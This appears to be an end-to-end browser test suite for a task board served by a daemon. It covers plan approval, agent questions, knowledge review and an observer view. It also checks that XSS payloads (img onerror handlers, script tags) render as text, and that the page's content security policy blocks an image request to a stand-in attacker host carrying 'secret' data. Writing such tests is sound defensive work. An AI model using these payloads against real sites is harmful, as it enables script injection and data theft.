/**
 * The board end to end, in headless Chromium, against a real daemon running
 * the demo (its gates wait 60 s, so the test approves and answers in the
 * browser): the board moves live, the plan is approved, the question is
 * answered, tokens stream, the transcript is searched, hostile text stays
 * text, the language is switched and remembered, the daemon goes away and
 * comes back. A second run reviews a knowledge candidate staged in the demo
 * project's `.workflow/` (reconcile, resolve, promote, audit) and watches the
 * observer screen update live. Each screen is saved under test-output/web/.
 */
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/db.js';
import { startTestDaemon, type TestDaemon } from '../helpers/daemon.js';
import { until } from '../helpers/wait.js';
import { SPEC_FILE } from '../helpers/knowledge2.js';
import { git } from '../helpers/repo.js';
import { resolveWorkflowRoot } from '../../src/knowledge/format/root.js';
import { createSession } from '../../src/knowledge/lifecycle/session/store.js';
import { stage } from '../../src/knowledge/lifecycle/session/ops.js';
import { resolveObserverConfig } from '../../src/observer/config.js';
import { ObserverSession } from '../../src/observer/session.js';
import { TranscriptBuilder } from '../../src/observer/__fixtures__/transcript-builder.js';
import { BOARD_PLUGINS, browserSkipReason, withBrowser } from './browser.js';
import { budget } from '../helpers/budget.js';

const OUT = join(process.cwd(), 'test-output', 'web');
const skip = browserSkipReason();
if (skip) console.warn(`\n*** web e2e: ${skip} ***\n`);

describe.skipIf(skip !== null)('web board in Chromium', () => {
  let daemon: TestDaemon | null = null;
  const browser = withBrowser();
  let page: Page;
  const policyRefusals: string[] = [];
  // The daemon serves the observer's sessions itself, from FLOW_WIKI_DIR: an empty wiki here.
  const wiki = tempDir('maestro-wiki-');
  const wikiBefore = process.env.FLOW_WIKI_DIR;
  process.env.FLOW_WIKI_DIR = wiki;
  // Every screen saved is also checked: each control the user can reach has an accessible name.
  const shot = async (name: string) => {
    expect(await unlabelledControls(page), `unlabelled controls on ${name}`).toEqual([]);
    await page.screenshot({ path: join(OUT, `${name}.png`), fullPage: false });
  };

  beforeAll(async () => {
    mkdirSync(OUT, { recursive: true });
    page = await browser.context.newPage();
    page.on('pageerror', (err) => console.error('page error:', err.message));
    // The page's content security policy (web.ts boardPolicy) must refuse nothing the board itself does.
    page.on('console', (m) => {
      if (m.text().includes('Content Security Policy')) policyRefusals.push(m.text());
    });
  });

  afterAll(async () => {
    if (wikiBefore === undefined) delete process.env.FLOW_WIKI_DIR;
    else process.env.FLOW_WIKI_DIR = wikiBefore;
  });

  // The daemon lives inside the test: the leak check after each test wants it stopped.
  it('drives the demo through the board', async () => {
    daemon = await startTestDaemon({ tickMs: 100 }, { demo: { autoApproveAfterMs: 60_000, autoReplyAfterMs: 60_000 }, plugins: BOARD_PLUGINS });
    try {
      await drive();
    } finally {
      await daemon?.stop({ graceMs: 2000 });
      daemon = null;
    }
  }, budget(240_000));

  it('reviews and promotes a staged knowledge candidate, shows the audit, and updates the observer live', async () => {
    daemon = await startTestDaemon({ tickMs: 100 }, { demo: { autoApproveAfterMs: 60_000, autoReplyAfterMs: 60_000 }, plugins: BOARD_PLUGINS });
    try {
      await knowledgeAndObserver();
    } finally {
      await daemon?.stop({ graceMs: 2000 });
      daemon = null;
    }
  }, budget(180_000));

  it('edits a task in its detail: a refusal is said and changes nothing, then the new title and priority show in the detail and on the card', async () => {
    daemon = await startTestDaemon({ tickMs: 100 }, { demo: { autoApproveAfterMs: 60_000, autoReplyAfterMs: 60_000 }, plugins: BOARD_PLUGINS });
    try {
      await editInTheBoard();
    } finally {
      await daemon?.stop({ graceMs: 2000 });
      daemon = null;
    }
  }, budget(180_000));

  /**
   * The demo's task waits at plan review (editable there). A task that waits for it is shown in the dependency box
   * disabled, as it would close a cycle, and the keys pass over it. Another task, not done, added as its dependency,
   * is refused by the daemon (work already started takes only a dependency that is done): said under the form, which
   * keeps what was typed. Without it, the title and priority are saved.
   */
  async function editInTheBoard() {
    const d = daemon!;
    const [project] = await d.store.projects.list();
    const [task] = await d.store.tasks.list({ projectId: project!.id, parentId: null });
    await until(d.bus, async () => (await d.store.tasks.get(task!.id)).status === 'plan_review', 'the demo task at plan review', 60_000);
    // Not done, and waiting for nothing: parked for a person, so the demo does not take it. It waits for the task
    // until then, which keeps it from being claimed first.
    const parked = await d.store.tasks.create({ projectId: project!.id, title: 'Say goodbye', deps: [task!.id] });
    await d.store.tasks.transition(parked.id, 'needs_attention', { from: 'ready', reason: 'parked for the board test' });
    const later = await d.store.tasks.edit(parked.id, { deps: [] });
    const after = await d.store.tasks.create({ projectId: project!.id, title: 'Goodbye after the greeting', deps: [task!.id] });

    await page.goto(`${d.boardUrl}#/task/${task!.id}`);
    await page.getByTestId('detail-title').getByText(task!.title).waitFor();
    const card = page.locator(`[data-card="${task!.id}"]`);
    await card.getByText('P0', { exact: true }).waitFor();
    await page.locator(`[data-card="${later.id}"]`).waitFor();
    await page.locator(`[data-card="${after.id}"]`).waitFor();

    // From the keyboard: Edit opens the form on the title; Escape leaves the form, not the task; Enter opens it again.
    const edit = page.getByRole('button', { name: 'Edit', exact: true });
    await edit.focus();
    await page.keyboard.press('Enter');
    const title = page.getByLabel('Title', { exact: true });
    await page.waitForFunction(`document.activeElement?.id === 'edit-title'`);
    await page.keyboard.press('Escape');
    await title.waitFor({ state: 'detached' });
    await page.getByTestId('detail-title').getByText(task!.title).waitFor();
    await page.waitForFunction(`document.activeElement?.textContent === 'Edit'`);
    await page.keyboard.press('Enter');

    await title.fill('Greet by name, politely');
    await page.getByLabel('Priority', { exact: true }).selectOption('2');
    const box = page.getByRole('combobox', { name: 'Add a dependency' });
    await box.fill('goodbye');
    await page.getByRole('option', { name: `Say goodbye ${later.id.slice(0, 10)} needs attention` }).waitFor();
    // Its title starts with what was typed, but it waits for this task: listed last, disabled, passed over.
    const cycle = page.getByRole('option', { name: `Goodbye after the greeting ${after.id.slice(0, 10)} ready depends on this task` });
    expect(await cycle.getAttribute('aria-disabled')).toBe('true');
    const options = page.getByRole('listbox', { name: 'Tasks it may depend on' }).getByRole('option');
    expect(await options.allTextContents()).toEqual([expect.stringMatching(/^Say goodbye /), expect.stringMatching(/^Goodbye after the greeting /)]);
    await box.press('ArrowDown');
    await box.press('ArrowDown');
    expect(await page.locator(`[id="${await box.getAttribute('aria-activedescendant')}"]`).textContent()).toMatch(/^Say goodbye /);
    await box.press('Enter');
    await page.getByRole('button', { name: 'Remove the dependency on Say goodbye' }).waitFor();
    expect(await box.inputValue()).toBe('');
    await page.getByRole('button', { name: 'Remove the dependency on Say goodbye' }).click();
    // A click on an option adds it and keeps the keyboard in the box.
    await box.fill('SAY');
    await page.getByRole('option', { name: `Say goodbye ${later.id.slice(0, 10)} needs attention` }).click();
    await page.getByRole('button', { name: 'Remove the dependency on Say goodbye' }).waitFor();
    await page.waitForFunction(`document.activeElement?.getAttribute('role') === 'combobox'`);
    await box.fill('zzz');
    await page.getByText('No other task matches', { exact: false }).waitFor();
    await box.press('Escape');
    expect(await box.getAttribute('aria-expanded')).toBe('false');
    await page.getByLabel('Title', { exact: true }).waitFor();
    await shot('14-task-edit');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByTestId('edit-refused').getByText(`its work started without ${later.id}, which is needs_attention`, { exact: false }).waitFor();
    expect(await d.store.tasks.get(task!.id)).toMatchObject({ title: task!.title, priority: 0, deps: [] });
    expect(await title.inputValue()).toBe('Greet by name, politely');

    await page.getByRole('button', { name: 'Remove the dependency on Say goodbye' }).click();
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Saved: Title, Priority.').waitFor();
    await page.getByTestId('detail-title').getByText('Greet by name, politely').waitFor();
    expect(await page.getByTestId('field.priority').textContent()).toBe('P2');
    await card.getByText('Greet by name, politely').waitFor();
    await card.getByText('P2', { exact: true }).waitFor();
    expect(await d.store.tasks.get(task!.id)).toMatchObject({ title: 'Greet by name, politely', priority: 2, deps: [] });
    await shot('15-task-edited');
    expect(policyRefusals).toEqual([]);
  }

  async function knowledgeAndObserver() {
    const d = daemon!;
    const [project] = await d.store.projects.list();
    // A spec in the demo project, and a candidate staged the way `maestro knowledge stage` does.
    const root = resolveWorkflowRoot({ env: process.env, workflowRoot: project!.repoPath });
    mkdirSync(join(root.workflowDir, 'specs'), { recursive: true });
    writeFileSync(join(root.workflowDir, 'specs', 'coding-conventions.md'), SPEC_FILE);
    // Committed, as a team's specs are: a promotion into a file with a person's uncommitted changes is not committed.
    git(project!.repoPath, 'add', '.workflow/specs/coding-conventions.md');
    git(project!.repoPath, 'commit', '-q', '-m', 'Coding conventions');
    createSession(root, 'review-demo', 'teach the board');
    const rule = 'Every background queue is drained before the daemon shuts down, so no accepted job is lost.';
    const { candidate } = stage(root, { target: 'spec', title: 'Drain queues on shutdown', content: rule, category: 'coding', session: 'review-demo', evidence: ['src/daemon/daemon.ts'] }, process.env);
    // Hostile text from an agent's report shows as text and runs nothing.
    const hostile = `<img src=x onerror="window.__pwned=3"><script>window.__pwned=4</script>${'y'.repeat(300)}`;
    stage(root, { target: 'knowhow', title: hostile, content: `${hostile} is not a rule`, session: 'review-demo' }, process.env);

    // A new daemon (a new home, a new token): open its printed link, straight to the review page.
    await page.goto(`${d.boardUrl}#/knowledge/review`);
    expect(page.url()).toBe(`${d.url}/#/knowledge/review`);
    const session = page.getByRole('region', { name: 'Session review-demo' });
    const card = session.getByRole('region', { name: 'Drain queues on shutdown' });
    await card.waitFor();
    await card.getByText('Receipt: missing').waitFor();
    await session.getByRole('region', { name: hostile }).waitFor();
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await card.getByRole('button', { name: 'Promote' }).isDisabled()).toBe(true);
    await session.getByRole('button', { name: 'Reconcile' }).click();
    await card.getByText('Receipt: fresh').waitFor();
    // A decision needs a reason; nothing is sent without one.
    await card.getByRole('button', { name: 'Resolve' }).click();
    await card.getByRole('alert').getByText('Say why: a reason is required.').waitFor();
    await card.getByLabel('Resolve as').selectOption('unique');
    await card.getByLabel('Reason').fill('No rule covers shutdown order yet.');
    await card.getByRole('button', { name: 'Resolve' }).click();
    await page.getByTestId('review-note').getByText(`Resolved: ${candidate.candidate_id} → unique`).waitFor();
    await card.getByText('Resolved: No rule covers shutdown order yet.').waitFor();
    await shot('11-knowledge-review');
    await card.getByRole('button', { name: 'Promote' }).click();
    // The demo's own checkout: committed there by the daemon, as the note says (no merge is held up by it).
    await page.getByTestId('review-note').getByText(/^Promoted as S-\d{8}-[a-f0-9]{16}\. Committed in .+ \([0-9a-f]{7}\)\.$/).waitFor();
    const promotedId = /^Promoted as (S-\d{8}-[a-f0-9]{16})\./.exec((await page.getByTestId('review-note').textContent())!)![1]!;
    const specs = readdirSync(join(root.workflowDir, 'specs')).map((f) => readFileSync(join(root.workflowDir, 'specs', f), 'utf8')).join('\n');
    expect(specs).toContain(rule);
    expect(specs).toContain(promotedId);
    // Promoted: it left the queue.
    await card.waitFor({ state: 'detached' });

    // The new entry is found by the project's knowledge search and opens with its evolution chain.
    await page.getByRole('link', { name: 'Search', exact: true }).click();
    await page.getByLabel('Search the knowledge').fill('drained shutdown');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    await page.getByRole('link', { name: 'Drain queues on shutdown' }).click();
    await page.getByTestId('knowledge-entry').getByText(rule).waitFor();
    await page.getByTestId('knowledge-entry').getByText(promotedId, { exact: true }).waitFor();
    await page.getByRole('list', { name: 'Evolution' }).waitFor();
    await shot('11b-knowledge-entry');

    await page.getByRole('link', { name: 'Audit' }).click();
    const report = page.getByTestId('audit-report');
    await report.getByText(/promoted: 1$/).waitFor();
    expect(await report.textContent()).toMatch(/Specs: 3 active of 3/);
    await page.getByLabel('Show the prune plan').check();
    await report.getByText('Applying the plan is done from the command line', { exact: false }).waitFor();
    await shot('12-knowledge-audit');

    // The observer: a session appears, and its view grows, without a reload.
    await page.goto(`${d.url}/#/observer`);
    await page.getByText('No observed sessions yet.').waitFor();
    const cfg = resolveObserverConfig(process.env);
    const jsonl = join(tempDir('maestro-claude-'), 'obs-live.jsonl');
    let now = Date.parse('2026-11-20T10:00:00.000Z');
    const b = new TranscriptBuilder(now);
    b.user('Why does the greeting test fail?').turn({ tools: [{ name: 'Read', input: { file_path: 'src/greet.ts' } }], answer: 'The greeting lacked a comma.' });
    b.writeTo(jsonl);
    now = b.clock + 1000;
    const observed = new ObserverSession({ sessionId: 'obs-live', jsonlPath: jsonl, wikiRoot: cfg.wikiRoot, workspaceRoot: cfg.workspaceRoot, projectSlug: 'demo', now: () => now });
    await observed.step();
    await page.getByRole('list', { name: 'Sessions' }).getByText(/\b1 exploration(?!s)/).waitFor();
    await page.getByRole('list', { name: 'Sessions' }).getByRole('link').first().click();
    await page.getByRole('article', { name: 'Why does the greeting test fail?' }).waitFor();
    b.user('Now add a farewell function').turn({ tools: [{ name: 'Write', input: { file_path: 'src/farewell.ts', content: 'x' } }], answer: 'Added farewell().' });
    b.appendTo(jsonl);
    now = b.clock + 1000;
    await observed.step();
    await page.getByRole('article', { name: 'Now add a farewell function' }).waitFor();
    await page.getByRole('list', { name: 'Sessions' }).getByText('2 explorations').waitFor();
    await page.getByTestId('observer-updated').getByText('Updated at', { exact: false }).waitFor();
    await shot('13-observer-live');
    expect(policyRefusals).toEqual([]);
  }

  async function drive() {
    const d = daemon!;
    const [project] = await d.store.projects.list();
    const [parent] = await d.store.tasks.list({ projectId: project!.id, parentId: null });
    // Hostile text in a title: it must show as text and run nothing.
    const hostile = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>${'x'.repeat(400)}`;
    await d.store.tasks.create({ projectId: project!.id, title: hostile, deps: [parent!.id] });

    // Without the link (no token yet): one notice saying how to sign in, not "unreachable" and an error per panel.
    await page.goto(`${d.url}/`);
    await page.getByTestId('sign-in').getByText('This browser is not signed in to the daemon').waitFor();
    expect(await page.getByTestId('connection').textContent()).toBe('Not signed in');
    expect(await page.locator('[data-card]').count()).toBe(0);

    // Open the link \`maestro serve\` prints, as a person would: the token goes to the board's own storage (no cookie,
    // which every port of the host is sent: otherPort.e2e.test.ts) and leaves the address bar.
    await page.goto(d.boardUrl);
    expect(d.boardUrl).toContain(`?token=${d.token}`);
    expect(page.url()).toBe(`${d.url}/`);
    expect(await browser.context.cookies(d.url)).toEqual([]);
    expect(await page.evaluate(() => (globalThis as unknown as { localStorage: { getItem(k: string): string | null } }).localStorage.getItem('maestro.token'))).toBe(d.token);
    const card = page.locator(`[data-card="${parent!.id}"]`);
    await card.waitFor();
    await page.getByText('Live', { exact: true }).waitFor();
    // The header says how the daemon runs agents: in the sandbox, the default where bwrap works (CI installs it).
    await page.getByTestId('agent-sandbox').getByText(d.config.agentSandbox ? 'Agents sandboxed' : 'Agents run unsandboxed').waitFor();
    expect(await page.locator('[data-card]').filter({ hasText: '<img src=x' }).count()).toBe(1);
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    // Should hostile text ever become markup, the page's policy stops it (tried in a tab of its own, whose
    // refusals are expected): an inline handler and a script tag run nothing, an image from elsewhere never loads.
    const probe = await browser.context.newPage();
    await probe.goto(`${d.url}/`);
    const refused = await probe.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          // The page's DOM, typed as far as used here (the suite is compiled without the DOM library).
          type Node = { innerHTML: string; textContent: string };
          const document = (globalThis as unknown as { document: { addEventListener(type: string, f: (e: { effectiveDirective: string }) => void): void; createElement(tag: string): Node; body: { append(...nodes: Node[]): void } } }).document;
          const seen: string[] = [];
          document.addEventListener('securitypolicyviolation', (e) => {
            seen.push(e.effectiveDirective);
            if (seen.length === 3) resolve(seen.sort());
          });
          const div = document.createElement('div');
          div.innerHTML = '<img src="data:," onerror="window.__pwned=5"><img src="https://evil.example/leak.png?data=secret">';
          const script = document.createElement('script');
          script.textContent = 'window.__pwned = 6';
          document.body.append(div, script);
        }),
    );
    expect(refused).toEqual(['img-src', 'script-src-attr', 'script-src-elem']);
    expect(await probe.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await probe.close();

    // The board moves live: the parent reaches plan review in the Planning lane without a reload.
    const planningLane = page.locator('[data-lane="lane.planning"]');
    await planningLane.locator(`[data-card="${parent!.id}"]`).getByText('plan review').waitFor({ timeout: budget(60_000) }).catch(async (err: Error) => {
      throw new Error(`${err.message}\n${await whereIs(d, parent!.id)}`);
    });
    await shot('01-board');

    // Open it from the keyboard; the plan, its proposed subtasks and its gate are there. Approve in the browser.
    await card.focus();
    await page.keyboard.press('Enter');
    const proposed = page.getByRole('table', { name: 'Proposed subtasks' });
    await proposed.waitFor();
    expect(await proposed.locator('tbody tr').count()).toBe(3);
    // Focus moved to the task; Escape closes it and returns to its card; Enter opens it again.
    expect(await page.evaluate("document.activeElement?.getAttribute('data-testid')")).toBe('detail-title');
    await page.keyboard.press('Escape');
    await page.waitForFunction(`document.activeElement?.getAttribute('data-card') === ${JSON.stringify(parent!.id)}`);
    expect(await page.getByTestId('detail-title').count()).toBe(0);
    await page.keyboard.press('Enter');
    await proposed.waitFor();
    await page.getByTestId('plan-text').waitFor();
    expect(await page.getByTestId('plan-text').textContent()).toContain('three steps');
    await page.getByText('reading the repository', { exact: false }).first().waitFor({ timeout: budget(30_000) }); // the plan run's tokens, replayed over SSE
    await shot('02-plan-review');
    await page.getByRole('button', { name: 'Approve' }).click();
    await until(d.bus, async () => (await d.store.tasks.get(parent!.id)).status === 'waiting_children', 'the parent to wait for its subtasks');
    const kids = await d.store.tasks.list({ parentId: parent!.id });
    const define = kids.find((k) => k.title === 'Define the greeting')!;
    // The subtask table shows the plan's three children; on the board the parent's card counts them done.
    await page.getByRole('table', { name: 'Subtasks' }).getByRole('link', { name: 'Define the greeting' }).waitFor();
    await card.getByText(/^[0-3] of 3 subtasks done$/).waitFor();
    await page.getByRole('button', { name: `subtask of ${parent!.title}` }).first().waitFor();

    // The first subtask asks a question: open it, watch tokens stream, answer.
    await page.getByRole('table', { name: 'Subtasks' }).getByRole('link', { name: 'Define the greeting' }).click();
    await page.getByTestId('detail-title').getByText('Define the greeting').waitFor();
    // Its card on the board names its parent: the name opens the parent's detail, its own card opens it again.
    await page.locator(`[data-parent-of="${define.id}"]`).click();
    await page.getByTestId('detail-title').getByText(parent!.title).waitFor();
    await page.locator(`[data-card="${define.id}"]`).click();
    await page.getByTestId('detail-title').getByText('Define the greeting').waitFor();
    await page.getByText('The agent asks a question').waitFor({ timeout: budget(60_000) });
    const live = page.getByTestId('live-output');
    await live.getByText('Before writing the greeting I need one decision.').waitFor({ timeout: budget(30_000) });
    await live.getByText('Which greeting should greet(name) use?').waitFor();
    await shot('03-question');
    await page.getByLabel('Your answer').fill('Hi there, {name}!');
    await page.getByRole('button', { name: 'Send the answer' }).click();
    await live.getByText('Using the greeting you chose.').waitFor({ timeout: budget(60_000) });
    await until(d.bus, async () => !['executing', 'awaiting_input', 'queued', 'ready'].includes((await d.store.tasks.get(define.id)).status), 'the answered subtask to finish executing');

    // Search the transcript on the server.
    // The execute run's transcript holds the question and the answer (a review run may have started since).
    const execute = (await d.store.runs.list({ taskId: define.id })).find((r) => r.kind === 'execute')!;
    await page.getByLabel('Run', { exact: true }).locator(`option[value="${execute.id}"]`).waitFor({ state: 'attached' });
    await page.getByLabel('Run', { exact: true }).selectOption(execute.id);
    await page.getByLabel('Search the transcript').fill('which GREETING');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    const matches = page.getByTestId('transcript-matches');
    await matches.waitFor();
    expect(await matches.locator('tr').count()).toBeGreaterThan(0);
    expect(await matches.textContent()).toContain('Which greeting should greet(name) use?');
    await page.getByRole('button', { name: 'Show the last lines' }).click();
    await page.getByText(/The last \d+ of \d+ lines/).waitFor();
    await page.getByTestId('runs').waitFor();
    await page.getByRole('button', { name: /Show the trace/ }).click();
    // Event types read in the board's language: `run.phase` is "phase <stage> <state>".
    await page.getByText(/phase \S+ (start|done)/).first().waitFor();
    await page.getByText(/^Score [\d.]+, claimed by/).waitFor();
    await shot('04-transcript-runs');
    // The whole detail in one picture: a tall window.
    await page.setViewportSize({ width: 1440, height: 3200 });
    await shot('04b-detail-full');
    await page.setViewportSize({ width: 1440, height: 900 });

    // The other screens.
    await page.getByRole('link', { name: 'Metrics' }).click();
    await page.getByRole('img', { name: 'Tasks by status' }).waitFor();
    await shot('05-metrics');
    await page.getByRole('link', { name: 'Settings' }).click();
    await page.getByLabel('Configuration (JSON)').waitFor();
    await shot('06-settings');
    await page.getByRole('link', { name: 'Knowledge' }).click();
    await page.getByLabel('Search the knowledge').fill('greeting');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    // The daemon serves the knowledge search: the answer comes back with its facets (or a clear error).
    await page.locator('input[name="ktype"], [role="alert"]').first().waitFor();
    expect(await page.getByRole('alert').count()).toBe(0);
    expect(await page.getByTestId('knowledge-unavailable').count()).toBe(0);
    await shot('07-knowledge');
    await page.getByRole('link', { name: 'Observer' }).click();
    await page.getByText('No observed sessions yet.').waitFor();
    await shot('08-observer');
    await page.goto(`${d.url}/#/no/such/page`);
    await page.getByRole('alert').getByText('There is no page at').waitFor();
    await shot('08b-unknown-route');

    // Switch the language; the choice survives a reload.
    await page.goto(`${d.url}/#/board`);
    await page.getByLabel('Language').selectOption('zh');
    await page.getByRole('heading', { name: /待办/ }).waitFor();
    await page.reload();
    await page.getByRole('heading', { name: /待办/ }).waitFor();
    expect(await page.getByRole('link', { name: '看板' }).count()).toBe(1);
    await shot('09-board-zh');
    await page.getByLabel('语言').selectOption('en');
    await page.getByRole('heading', { name: /Backlog/ }).waitFor();

    // The daemon goes away: the app says so; it comes back on the same port: the app reconnects.
    const { home, port } = { home: d.config.home, port: d.port };
    await d.stop({ graceMs: 2000 });
    daemon = null;
    await page.getByText('The daemon is unreachable; reconnecting…').waitFor({ timeout: budget(30_000) });
    await shot('10-daemon-gone');
    daemon = await startTestDaemon({ home, port, tickMs: 100 }, { demo: { autoApproveAfterMs: 60_000, autoReplyAfterMs: 60_000 }, plugins: BOARD_PLUGINS });
    await page.getByText('Reconnected; the board was reloaded').waitFor({ timeout: budget(30_000) });
    await page.locator(`[data-card="${parent!.id}"]`).waitFor();
    expect(policyRefusals).toEqual([]);
  }
});

/** Buttons, links, inputs, selects and text areas without an accessible name (aria-label, aria-labelledby, a label, or their text). */
async function unlabelledControls(page: Page): Promise<string[]> {
  // A string, not a function: tsx would wrap a function with helpers the page does not have.
  return (await page.evaluate(`(() => {
    const named = (el) => {
      const aria = el.getAttribute('aria-label');
      if (aria && aria.trim()) return true;
      const by = el.getAttribute('aria-labelledby');
      if (by && by.split(/\\s+/).some((id) => document.getElementById(id)?.textContent?.trim())) return true;
      if (el.labels && [...el.labels].some((l) => l.textContent.trim())) return true;
      if ((el.tagName === 'BUTTON' || el.tagName === 'A') && el.textContent.trim()) return true;
      return !!(el.getAttribute('title') || '').trim();
    };
    return [...document.querySelectorAll('button, a[href], input:not([type=hidden]), select, textarea')]
      .filter((el) => el.offsetParent !== null && !named(el))
      .map((el) => el.outerHTML.slice(0, 160));
  })()`)) as string[];
}

/** Where a task stands in the store (status, runs, latest events): what a failed wait on the board reports. */
async function whereIs(d: TestDaemon, taskId: string): Promise<string> {
  const task = await d.store.tasks.get(taskId);
  const runs = await d.store.runs.list({ taskId });
  const after = Math.max(0, (await d.store.events.lastId()) - 40);
  const events = (await d.store.events.list({ projectId: task.projectId, after })).events.slice(-15);
  return [
    `task ${taskId}: ${task.status}`,
    ...runs.map((r) => `run ${r.id} ${r.kind} ${r.status}${r.error ? `: ${r.error}` : ''}`),
    ...events.map((e) => `event ${e.id} ${e.type} ${e.taskId ?? ''} ${JSON.stringify(e.payload).slice(0, 200)}`),
  ].join('\n');
}
